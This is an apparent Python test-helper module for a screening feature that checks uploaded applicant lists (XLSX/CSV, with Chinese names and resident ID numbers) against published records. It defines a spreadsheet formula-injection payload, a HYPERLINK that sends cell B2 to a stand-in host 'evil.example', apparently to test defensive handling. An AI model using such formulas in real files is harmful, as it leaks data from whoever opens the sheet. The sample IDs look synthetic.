"""Applicant lists for the screening tests, and a published record to find."""

from __future__ import annotations

import io

from openpyxl import Workbook

from app.cases.models import CaseState
from app.core.exports import append_xlsx_row
from app.extensions import db
from app.records.services import approve_record, draft_record, suggested_draft

# The respondent of `make_case`: 张伟, resident ID 31010119800101123X, complainant 李娜.
HIT_ID = "31010119800101123X"
CLEAR_ID = "110101199003071234"[:17]
HEADER = ["姓名", "证件类型", "证件号码", "单位"]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")'


def valid_id(first17: str) -> str:
    from app.core.identifiers import resident_check_digit

    return first17 + resident_check_digit(first17)


def publish_record(make_case, make_user, agency: str = "SH"):
    case = make_case(agency=agency, state=CaseState.decided)
    record = draft_record(case, case.created_by, suggested_draft(case, case.respondents[0]))
    approve_record(record, make_user(agency, roles=("agency_admin",)))
    db.session.commit()
    return record


def xlsx(rows: list[list]) -> bytes:
    book = Workbook()
    sheet = book.active
    for row in [HEADER, *rows]:
        append_xlsx_row(sheet, row)  # text cells, as a list typed or pasted as text has
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def csv_bytes(rows: list[list]) -> bytes:
    lines = [",".join(HEADER)] + [",".join(str(c) for c in row) for row in rows]
    return ("\n".join(lines) + "\n").encode("utf-8")


def mixed_rows() -> list[list]:
    """A hit (its ID typed with spaces), a clear person, an invalid ID, a missing name and a
    name typed as a formula."""
    return [
        ["张伟", "居民身份证", "3101 0119 8001 0112 3X", "复旦大学"],
        ["王芳", "", valid_id(CLEAR_ID), "浙江大学"],
        ["赵六", "居民身份证", "310101198001011230", "南京大学"],
        ["", "居民身份证", valid_id("32010119850202001"), "东南大学"],
        [FORMULA, "护照", "E12345678", "中国科学技术大学"],
    ]


def upload(client, data: bytes, purpose: str = "2026年度省自然科学基金", name="list.xlsx"):
    return client.post(
        "/screenings/new",
        data={"purpose": purpose, "file": (io.BytesIO(data), name)},
        content_type="multipart/form-data",
    )
